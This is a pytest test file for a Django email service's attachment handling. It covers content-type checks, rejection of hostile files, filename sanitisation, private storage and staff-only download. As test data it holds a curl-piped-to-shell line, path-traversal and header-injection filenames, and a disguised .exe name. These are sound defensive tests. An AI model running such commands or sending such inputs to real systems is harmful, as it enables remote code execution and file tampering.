"""Attachments: accepted by content, refused with a reason, named safely, kept private, sent intact."""

import importlib
import os
import re
import subprocess
import sys
import unicodedata
import uuid
from email import message_from_bytes
from email.policy import default as default_policy
from urllib.parse import quote

import pytest
import requests
from django.contrib.auth.models import Permission, User
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from django.urls import clear_url_caches
from django.utils import timezone
from rest_framework.test import APIClient

from email_service import delivery, outbox
from email_service.authentication import issue_token
from email_service.models import EmailRequest, EmailStatus
from email_service.storage import MAX_NAME_BYTES, attachment_upload_to, clean_filename
from email_service.validators import ALLOWED_CONTENT_TYPES, allowed_content_types, validate_attachment

from . import files
from .conftest import ROOT, free_port, wait_for

URL = "/api/email/emails/"
FORM = {"full_name": "Jane Roe", "email": "jane@example.com", "subject": "Results", "message": "Attached."}
MiB = 1024 * 1024
OOXML = "application/vnd.openxmlformats-officedocument"
STORED_NAME = re.compile(r"^email_attachments/\d{4}/\d{2}/\d{2}/[0-9a-f]{32}(\.[a-z0-9]{1,10})?$")

# (name sent, maker, type libmagic must find)
ACCEPTED = [
    ("Referral letter.pdf", files.pdf_bytes, "application/pdf"),
    ("ECG strip.png", files.png_bytes, "image/png"),
    ("Rash photo.JPG", files.jpeg_bytes, "image/jpeg"),
    ("scan.gif", files.gif_bytes, "image/gif"),
    ("wound.webp", files.webp_bytes, "image/webp"),
    ("Überweisung.docx", files.docx_bytes, f"{OOXML}.wordprocessingml.document"),
    ("Lab results.xlsx", files.xlsx_bytes, f"{OOXML}.spreadsheetml.sheet"),
    ("letter.odt", files.odt_bytes, "application/vnd.oasis.opendocument.text"),
    ("old results.xls", files.xls_bytes, "application/vnd.ms-excel"),
    ("old letter.doc", files.doc_bytes, "application/msword"),
    ("notes.rtf", files.rtf_bytes, "text/rtf"),
    ("results.csv", files.csv_bytes, "text/csv"),
    ("Windows export.csv", lambda: files.csv_bytes().replace(b"\n", b"\r\n"), "text/csv"),
    ("résumé des résultats.txt", files.text_bytes, "text/plain"),
]

# (name sent, maker, words the 400 must contain)
HOSTILE = [
    ("invoice.pdf", files.exe_bytes, "portable-executable, which is not accepted"),
    ("notes.txt", files.html_bytes, "text/html, which is not accepted"),
    ("logo.svg", files.svg_with_script_bytes, "image/svg+xml, which is not accepted"),
    ("logo.png", files.svg_with_script_bytes, "image/svg+xml, which is not accepted"),
    ("report.pdf", files.pdf_html_polyglot_bytes, "web page markup or script"),
    ("letter.docx", files.zip_bytes, "application/zip, which is not accepted"),
    ("letter.docx", files.zip_bomb_docx_bytes, "unpacks to an unreasonable size"),
    ("run.txt", lambda: b"#!/bin/sh\ncurl http://example.invalid | sh\n", "text/x-shellscript"),
    ("letter.docx", files.pdf_bytes, "ends in '.docx' but its content is application/pdf"),
    ("letter", files.pdf_bytes, "ends in 'nothing' but its content is application/pdf"),
    ("empty.pdf", lambda: b"", "The file is empty"),
]


# Dispatches are recorded, except in the tests with a real worker (see conftest.dispatched).
pytestmark = pytest.mark.usefixtures("dispatched")


@pytest.fixture
def client():
    return APIClient()


def stored_files(root):
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def post_file(client, name, content, **form):
    upload = SimpleUploadedFile(name, content, content_type="application/octet-stream")
    return client.post(URL, {**FORM, **form, "file_attached": upload}, format="multipart")


def raw_multipart(filename, content):
    """A multipart body as a hostile client writes it; a name with control characters goes RFC 2231-encoded."""
    boundary = uuid.uuid4().hex
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode()
        for key, value in FORM.items()
    ]
    if filename.isprintable() and '"' not in filename:
        disposition = f'filename="{filename}"'  # raw UTF-8, as browsers send it
    else:
        disposition = f"filename*=UTF-8''{quote(filename, safe='')}"
    parts.append(
        f'--{boundary}\r\nContent-Disposition: form-data; name="file_attached"; {disposition}\r\n'
        f"Content-Type: application/pdf\r\n\r\n".encode()
        + content
        + b"\r\n"
    )
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


def has_unsafe_characters(name):
    return any(unicodedata.category(ch)[0] == "C" or ch in "/\\\u2028\u2029" for ch in name)


def mailed_attachment(row):
    """The attachment as a mail client sees it, parsed back from the bytes that would go out."""
    raw = delivery.message_bytes(delivery.build_support_message(row))
    [attachment] = message_from_bytes(raw, policy=default_policy).iter_attachments()
    return attachment


# --- type by content -------------------------------------------------------------------------


@pytest.mark.parametrize("name, make, content_type", ACCEPTED, ids=[case[0] for case in ACCEPTED])
def test_each_accepted_type_is_recognised_by_its_content(name, make, content_type):
    upload = SimpleUploadedFile(name, make(), content_type="application/octet-stream")
    assert validate_attachment(upload) == content_type


def test_heic_is_recognised_by_its_file_type_box():
    # No library here writes HEIC; the ISO BMFF header is what libmagic reads.
    head = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 200
    assert validate_attachment(SimpleUploadedFile("IMG_0001.HEIC", head)) == "image/heic"


@pytest.mark.parametrize("on_disk", [False, True], ids=["in memory", "temporary file"])
def test_an_xls_whose_directory_lies_past_the_sniffed_head_is_still_an_xls(on_disk, settings, tmp_path):
    data = files.xls_bytes(rows=3000)
    assert len(data) > 64 * 1024
    if on_disk:
        settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
        upload = TemporaryUploadedFile("big results.xls", "application/vnd.ms-excel", len(data), None)
        upload.write(data)
        upload.seek(0)
    else:
        upload = SimpleUploadedFile("big results.xls", data)
    assert validate_attachment(upload) == "application/vnd.ms-excel"


def test_the_allow_list_comes_from_settings(settings):
    settings.EMAIL_ALLOWED_ATTACHMENT_TYPES = {"image/png": [".png"]}
    assert validate_attachment(SimpleUploadedFile("scan.png", files.png_bytes())) == "image/png"
    with pytest.raises(Exception, match="application/pdf, which is not accepted. Allowed: .png, up to"):
        validate_attachment(SimpleUploadedFile("letter.pdf", files.pdf_bytes()))
    assert allowed_content_types() == ("image/png",)


def test_the_default_allow_list_names_every_type_it_accepts(settings):
    settings.EMAIL_ALLOWED_ATTACHMENT_TYPES = None
    assert allowed_content_types() == ALLOWED_CONTENT_TYPES
    assert {"application/pdf", "image/jpeg", "text/plain"} <= set(ALLOWED_CONTENT_TYPES)
    assert len(ALLOWED_CONTENT_TYPES) == len(set(ALLOWED_CONTENT_TYPES)) == 18


def test_the_size_is_refused_before_anything_is_read():
    class Unreadable(SimpleUploadedFile):
        def read(self, *args):
            raise AssertionError("read before the size check")

    upload = Unreadable("big.pdf", b"%PDF")
    upload.size = 10 * MiB + 1
    with pytest.raises(Exception, match="too large"):
        validate_attachment(upload)


@pytest.mark.django_db
@pytest.mark.parametrize("name, make, content_type", ACCEPTED, ids=[case[0] for case in ACCEPTED])
def test_accepted_files_are_stored_privately_with_their_type(client, media_root, name, make, content_type):
    data = make()
    response = post_file(client, name, data)
    assert response.status_code == 201, response.json()
    row = EmailRequest.objects.get()
    assert (row.attachment_name, row.attachment_content_type) == (name, content_type)
    assert row.attachment_size == len(data)
    assert STORED_NAME.match(row.file_attached.name)
    assert (media_root / row.file_attached.name).read_bytes() == data


# --- refusals --------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("name, make, reason", HOSTILE, ids=[f"{c[0]}:{c[1].__name__}" for c in HOSTILE])
def test_hostile_files_are_a_400_that_says_why_and_leave_nothing(client, media_root, name, make, reason):
    response = post_file(client, name, make())
    assert response.status_code == 400
    body = response.json()
    assert list(body) == ["file_attached"]
    [message] = body["file_attached"]
    assert reason in message
    assert "Allowed: .csv, .doc, .docx" in message and "up to 10.0\xa0MB" in message
    assert EmailRequest.objects.count() == 0
    assert stored_files(media_root) == []


@pytest.mark.django_db
def test_a_file_one_byte_over_the_limit_is_refused_and_one_at_the_limit_accepted(
    client, media_root, settings
):
    limit = settings.EMAIL_ATTACHMENT_MAX_BYTES
    response = post_file(client, "big scan.pdf", files.pdf_of_size(limit + 1))
    assert response.status_code == 400
    [message] = response.json()["file_attached"]
    assert "The file is 10.0\xa0MB, which is too large. Allowed:" in message
    assert EmailRequest.objects.count() == 0 and stored_files(media_root) == []
    # Django's temporary upload file went with the request, too.
    assert stored_files(media_root.parent / "uploads") == []

    response = post_file(client, "big scan.pdf", files.pdf_of_size(limit))
    assert response.status_code == 201, response.json()
    assert EmailRequest.objects.get().attachment_size == limit


@pytest.mark.django_db
def test_a_large_upload_goes_to_a_temporary_file_not_memory(client, media_root, settings, monkeypatch):
    seen = []
    create = outbox.create_email_request

    def spy(**kwargs):
        seen.append(kwargs["upload"])
        return create(**kwargs)

    monkeypatch.setattr(outbox, "create_email_request", spy)
    assert settings.FILE_UPLOAD_MAX_MEMORY_SIZE <= 2 * MiB
    response = post_file(client, "scan.pdf", files.pdf_of_size(3 * MiB))
    assert response.status_code == 201
    [upload] = seen
    assert isinstance(upload, TemporaryUploadedFile)
    assert upload.temporary_file_path().startswith(str(media_root.parent / "uploads"))

    response = post_file(client, "small.pdf", files.pdf_bytes())
    assert response.status_code == 201
    assert not isinstance(seen[1], TemporaryUploadedFile)


# --- names ------------------------------------------------------------------------------------

# (name the client sends, name kept for the mail, or None when the upload must be refused)
NAMES = [
    ("../../../etc/cron.d/evil.pdf", "evil.pdf"),
    ("..\\..\\Windows\\System32\\evil.pdf", "evil.pdf"),
    ("C:\\Users\\jane\\Desktop\\scan.pdf", "scan.pdf"),
    ("scan\x00.exe.pdf", "scan.exe.pdf"),
    ("line\r\nX-Injected: yes.pdf", "lineX-Injected: yes.pdf"),
    ("two\u2028lines.pdf", "twolines.pdf"),
    ("report\u202efdp.exe", None),  # shows as "reportexe.pdf"; really ends in .exe
    ("scan\u202e.pdf", "scan.pdf"),
    ("a" * 300 + ".pdf", "a" * 251 + ".pdf"),
    ("é" * 300 + ".pdf", "é" * 125 + ".pdf"),
    ("%2e%2e%2fevil.pdf", "%2e%2e%2fevil.pdf"),
    ("&#x2F;etc&#x2F;evil.pdf", "evil.pdf"),
]


@pytest.mark.django_db
@pytest.mark.parametrize("sent, kept", NAMES, ids=[repr(n[0][:40]) for n in NAMES])
def test_hostile_names_are_made_safe_or_refused(client, media_root, sent, kept):
    body, content_type = raw_multipart(sent, files.pdf_bytes())
    response = client.post(URL, data=body, content_type=content_type)
    if kept is None:
        assert response.status_code == 400
        assert "but its content is application/pdf" in response.json()["file_attached"][0]
        assert EmailRequest.objects.count() == 0 and stored_files(media_root) == []
        return
    assert response.status_code == 201, response.json()
    row = EmailRequest.objects.get()
    assert row.attachment_name == kept
    assert len(row.attachment_name.encode()) <= MAX_NAME_BYTES
    # On disk: one file, a random name inside today's folder.
    day = media_root / "email_attachments" / f"{timezone.now():%Y/%m/%d}"
    assert stored_files(media_root) == [media_root / row.file_attached.name]
    assert (media_root / row.file_attached.name).parent == day
    assert STORED_NAME.match(row.file_attached.name)
    # In the mail: the same safe name, and no header broken by it.
    attachment = mailed_attachment(row)
    assert attachment.get_filename() == kept
    assert attachment.get_payload(decode=True) == files.pdf_bytes()
    assert "X-Injected" not in delivery.build_support_message(row).message()


@pytest.mark.parametrize(
    "raw",
    [
        "../../x.pdf",
        "..\\..\\x.pdf",
        "a\x00b.pdf",
        "a\nb\r.pdf",
        "\u202egnp.pdf",
        "\u2029.pdf",
        "..",
        "",
        "é" * 300 + ".pdf",
        "a." + "b" * 300,
        "x" * 1000,
        "e\u0301" * 200 + ".pdf",
        "\x00\x01\x02",
    ],
)
def test_clean_filename_never_returns_a_path_a_control_character_or_over_255_bytes(raw):
    name = clean_filename(raw)
    assert name and not has_unsafe_characters(name)
    assert len(name.encode()) <= MAX_NAME_BYTES
    assert name not in (".", "..")


def test_clean_filename_keeps_the_extension_when_it_shortens_a_name():
    assert clean_filename("ü" * 200 + ".docx") == "ü" * 125 + ".docx"
    # A decomposed name (as macOS sends) is composed first: same text, fewer bytes.
    assert clean_filename("Re\u0301sultats.pdf") == "Résultats.pdf"


@pytest.mark.parametrize("name", ["../../x.pdf", "evil.php.pdf", "x.p\u0430f", "x." + "p" * 20, "x"])
def test_storage_names_are_random_and_inside_the_day_folder(name):
    first, second = attachment_upload_to(None, name), attachment_upload_to(None, name)
    assert first != second
    assert first.startswith(f"email_attachments/{timezone.now():%Y/%m/%d}/")
    assert STORED_NAME.match(first)


# --- privacy -----------------------------------------------------------------------------------


@pytest.fixture
def stored_row(client, media_root):
    response = post_file(client, "Private results.pdf", files.pdf_bytes("HIV test: negative"))
    assert response.status_code == 201
    return EmailRequest.objects.get()


@pytest.mark.django_db
@pytest.mark.parametrize("debug", [True, False])
def test_no_media_url_answers_with_a_file(client, stored_row, settings, debug):
    import medcor_backend2.urls

    settings.DEBUG = debug
    # Rebuild the URLconf under this DEBUG, in case a route were ever added only in debug.
    importlib.reload(medcor_backend2.urls)
    clear_url_caches()
    try:
        for path in (
            f"/media/{stored_row.file_attached.name}",
            "/media/",
            "/media/email_attachments/",
            f"/{stored_row.file_attached.name}",
            f"/static/../media/{stored_row.file_attached.name}",
        ):
            response = client.get(path)
            assert response.status_code == 404, path
            content = b"".join(response.streaming_content) if response.streaming else response.content
            assert b"HIV test" not in content
    finally:
        settings.DEBUG = False
        importlib.reload(medcor_backend2.urls)
        clear_url_caches()


SERVERS = {
    # DEBUG on, as under `make run`: Django's development server.
    "runserver, debug": (["manage.py", "runserver", "--noreload", "--nothreading"], "true"),
    # DEBUG off, as in production: gunicorn with WhiteNoise in front of the app.
    "gunicorn, no debug": (
        ["-m", "gunicorn", "medcor_backend2.wsgi", "--workers=1", "--no-control-socket"],
        "false",
    ),
}


@pytest.mark.parametrize("server", SERVERS)
def test_no_media_url_answers_on_a_real_server(server, tmp_path):
    # Not pytest-django's live_server: Django's test server serves MEDIA_URL itself.
    secret = tmp_path / "media" / "email_attachments" / "2024" / "01" / "02" / f"{uuid.uuid4().hex}.pdf"
    secret.parent.mkdir(parents=True)
    secret.write_bytes(files.pdf_bytes("HIV test: negative"))
    port = free_port()
    args, debug = SERVERS[server]
    if "gunicorn" in args:
        args = [*args, f"--bind=127.0.0.1:{port}"]
    else:
        args = [*args, f"127.0.0.1:{port}"]
    env = {
        **os.environ,
        "DJANGO_DEBUG": debug,
        "MEDIA_ROOT": str(tmp_path / "media"),
        "DATABASE_URL": f"sqlite:///{tmp_path / 'db.sqlite3'}",
    }
    log = open(tmp_path / "server.log", "wb")
    process = subprocess.Popen(
        [sys.executable, *args], cwd=ROOT, env=env, stdout=log, stderr=subprocess.STDOUT
    )
    try:
        base = f"http://127.0.0.1:{port}"
        wait_for(
            lambda: _answers(f"{base}/media/") or process.poll() is not None,
            timeout=60,
            message=f"{server} to listen",
        )
        assert process.poll() is None, (tmp_path / "server.log").read_text()
        relative = secret.relative_to(tmp_path / "media").as_posix()
        for path in (
            f"/media/{relative}",
            "/media/",
            f"/media/{secret.name}",
            f"/{relative}",
            f"/static/../media/{relative}",
            f"/static/%2e%2e/media/{relative}",
        ):
            answer = requests.get(f"{base}{path}", timeout=10)
            # runserver's static handler answers a traversal under /static/ with a bare 500.
            assert answer.status_code == 404 or "static" in path and answer.status_code >= 400, path
            assert b"HIV test" not in answer.content
    finally:
        process.terminate()
        try:
            process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait(timeout=10)
        log.close()


def _answers(url):
    try:
        return bool(requests.get(url, timeout=5).status_code)
    except requests.RequestException:
        return False


def staff_client(*codenames):
    user = User.objects.create_user(f"staff-{uuid.uuid4().hex[:8]}", password="x", is_staff=True)
    user.user_permissions.add(
        *Permission.objects.filter(content_type__app_label="email_service", codename__in=codenames)
    )
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {issue_token(user)}")
    return client


@pytest.mark.django_db
def test_staff_download_is_an_attachment_that_browsers_do_not_sniff(stored_row):
    url = f"{URL}{stored_row.pk}/attachment/"
    response = staff_client("view_emailrequest").get(url)
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="Private results.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] == "application/pdf"
    assert b"".join(response.streaming_content) == files.pdf_bytes("HIV test: negative")


@pytest.mark.django_db
def test_the_admin_link_downloads_with_the_staff_session(stored_row, admin_user):
    client = APIClient()
    client.force_login(admin_user)
    page = client.get(f"/admin/email_service/emailrequest/{stored_row.pk}/change/")
    url = f"{URL}{stored_row.pk}/attachment/"
    assert page.status_code == 200 and url in page.content.decode()
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.django_db
def test_the_download_is_closed_to_anonymous_callers_and_staff_without_view_permission(stored_row):
    url = f"{URL}{stored_row.pk}/attachment/"
    assert APIClient().get(url).status_code in (401, 403)
    assert staff_client("change_emailrequest").get(url).status_code == 403


@pytest.mark.django_db(transaction=True)
def test_deleting_a_row_deletes_its_file(media_root):
    rows = []
    for index in range(3):
        upload = SimpleUploadedFile(f"scan{index}.pdf", files.pdf_bytes())
        rows.append(outbox.create_email_request(data=FORM, upload=upload, content_type="application/pdf"))
    paths = [media_root / row.file_attached.name for row in rows]
    assert all(path.exists() for path in paths)

    response = staff_client("delete_emailrequest").delete(f"{URL}{rows[0].pk}/")
    assert response.status_code == 204
    assert not paths[0].exists()
    EmailRequest.objects.filter(pk=rows[1].pk).delete()  # what the admin's bulk delete does
    assert not paths[1].exists()
    assert paths[2].exists()


# --- the mail ----------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("data", [b"line one\nline two\r\nline three\rend", files.pdf_of_size(200_001)])
def test_the_mailed_attachment_has_the_stored_bytes_even_when_storage_reads_short(
    data, media_root, monkeypatch
):
    row = outbox.create_email_request(
        data=FORM, upload=SimpleUploadedFile("notes.txt", data), content_type="text/plain"
    )
    open_file = delivery.default_storage.open

    class ShortReads:
        """A remote storage's file, which hands back fewer bytes than asked for."""

        def __init__(self, name, mode="rb"):
            self.handle = open_file(name, mode)

        def read(self, size=-1):
            return self.handle.read(min(size, 1000) if size and size > 0 else size)

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self.handle.close()

    monkeypatch.setattr(delivery.default_storage, "open", ShortReads)
    attachment = mailed_attachment(row)
    assert attachment.get_content_type() == "text/plain"
    assert attachment["Content-Transfer-Encoding"] == "base64"
    assert attachment.get_payload(decode=True) == data


# --- end to end -----------------------------------------------------------------------------


@pytest.mark.integration
def test_accepted_corpus_reaches_support_byte_for_byte_with_the_original_names(
    celery_worker, live_server, smtp, settings
):
    corpus = [(name, make()) for name, make, _ in ACCEPTED]
    corpus.append(("Full scan at the size limit.pdf", files.pdf_of_size(settings.EMAIL_ATTACHMENT_MAX_BYTES)))
    sent = {}
    try:
        for name, data in corpus:
            response = requests.post(
                f"{live_server.url}{URL}",
                data=FORM,
                timeout=30,
                files={"file_attached": (name, data, "application/octet-stream")},
            )
            assert response.status_code == 201, (name, response.text)
            sent[response.json()["email_request_id"]] = (name, data)

        wait_for(
            lambda: EmailRequest.objects.filter(pk__in=sent, status=EmailStatus.SENT).count() == len(sent),
            timeout=60,
            message="every request to be SENT",
        )
        support = settings.SUPPORT_EMAIL
        received = wait_for(
            lambda: len(smtp.to(support)) >= len(sent) and smtp.to(support), message="every support mail"
        )
        by_request = {mail["message"]["X-Email-Request-ID"]: mail["message"] for mail in received}
        for pk, (name, data) in sent.items():
            [attachment] = list(by_request[pk].iter_attachments())
            assert attachment.get_filename() == name
            assert attachment.get_content_type() == EmailRequest.objects.get(pk=pk).attachment_content_type
            # Decoded as a mail client saves it: text files too keep their exact bytes and line endings.
            assert attachment.get_payload(decode=True) == data, name
    finally:
        for row in EmailRequest.objects.filter(pk__in=sent):
            row.delete()
